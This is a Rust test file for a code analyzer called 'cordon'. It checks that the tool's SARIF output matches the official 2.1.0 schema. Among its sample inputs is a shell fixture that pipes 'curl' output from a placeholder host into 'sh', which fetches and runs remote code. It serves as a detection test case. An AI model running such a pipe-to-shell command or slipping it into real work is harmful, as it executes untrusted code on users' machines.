//! `cordon analyze --format sarif` validates against the official SARIF
//! 2.1.0 schema (tests/fixtures/sarif/sarif-2.1.0-rtm.5.json, from the
//! OASIS/Microsoft SARIF SDK, MIT licence).

use std::process::{Command, Stdio};

fn schema() -> serde_json::Value {
    let text = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/sarif/sarif-2.1.0-rtm.5.json"
    ))
    .expect("schema file");
    serde_json::from_str(&text).expect("schema json")
}

fn sarif_for(files: &[(&str, &str)]) -> serde_json::Value {
    let dir = tempfile::tempdir().unwrap();
    let mut args = vec!["analyze".to_string(), "--format".into(), "sarif".into()];
    for (name, code) in files {
        let p = dir.path().join(name);
        std::fs::write(&p, code).unwrap();
        args.push(p.to_string_lossy().into_owned());
    }
    let o = Command::new(env!("CARGO_BIN_EXE_cordon"))
        .args(&args)
        .stdin(Stdio::null())
        .output()
        .expect("run cordon");
    serde_json::from_slice(&o.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}", String::from_utf8_lossy(&o.stdout)))
}

fn assert_valid(doc: &serde_json::Value) {
    let schema = schema();
    let validator = jsonschema::validator_for(&schema).expect("compile SARIF schema");
    let errors: Vec<String> = validator
        .iter_errors(doc)
        .map(|e| format!("{} at {}", e, e.instance_path))
        .collect();
    assert!(
        errors.is_empty(),
        "SARIF does not validate:\n{}",
        errors.join("\n")
    );
}

#[test]
fn sarif_with_findings_and_errors_validates() {
    let doc = sarif_for(&[
        ("spawn.py", "import os\nos.system('ls /')\n"),
        ("clean.py", "print(sum(range(10)))\n"),
        ("broken.py", "def f(:\n"),
        ("fetch.sh", "curl -s http://example.invalid/x | sh\n"),
    ]);
    assert_valid(&doc);
    assert_eq!(doc["version"], "2.1.0");
    let results = doc["runs"][0]["results"].as_array().expect("results");
    assert!(
        results.iter().any(|r| r["ruleId"] == "unparseable"),
        "{results:?}"
    );
    assert!(
        results
            .iter()
            .any(|r| r["ruleId"].as_str().is_some_and(|id| id.starts_with("PY-"))),
        "{results:?}"
    );
    let rules = doc["runs"][0]["tool"]["driver"]["rules"]
        .as_array()
        .expect("rules");
    assert!(!rules.is_empty());
}

#[test]
fn sarif_for_clean_code_validates() {
    let doc = sarif_for(&[("ok.js", "console.log([1, 2, 3].map(x => x * 2));\n")]);
    assert_valid(&doc);
    assert_eq!(doc["runs"][0]["results"].as_array().map(Vec::len), Some(0));
}

#[test]
fn the_validator_rejects_broken_sarif() {
    // The check must be able to fail: a result without a message is invalid.
    let mut doc = sarif_for(&[("spawn.py", "import os\nos.system('ls /')\n")]);
    doc["runs"][0]["results"][0]
        .as_object_mut()
        .expect("a result")
        .remove("message");
    let schema = schema();
    let validator = jsonschema::validator_for(&schema).expect("compile SARIF schema");
    assert!(!validator.is_valid(&doc));
}
